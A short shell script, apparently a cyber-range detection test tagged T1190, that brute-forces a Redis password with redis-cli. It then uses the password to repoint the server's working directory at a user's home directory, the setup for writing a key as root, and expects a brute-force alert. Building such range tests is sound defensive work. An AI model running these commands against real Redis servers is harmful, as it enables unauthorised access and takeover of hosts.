# SPDX-License-Identifier: Apache-2.0
# what: Redis guessed right, then told to write a file, as for a key of root
# technique: T1190
# from: ws1
# to: lin1
# account: -
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
for p in $(passwords 14) "$UNIX_PASSWORD"; do redis-cli -h $lin1 -a "$p" --no-auth-warning ping; done
redis-cli -h $lin1 -a "$UNIX_PASSWORD" --no-auth-warning config set dir "$RANGE/hosts/lin1/home"
redis-cli -h $lin1 -a "$UNIX_PASSWORD" --no-auth-warning config get dir | grep -q home
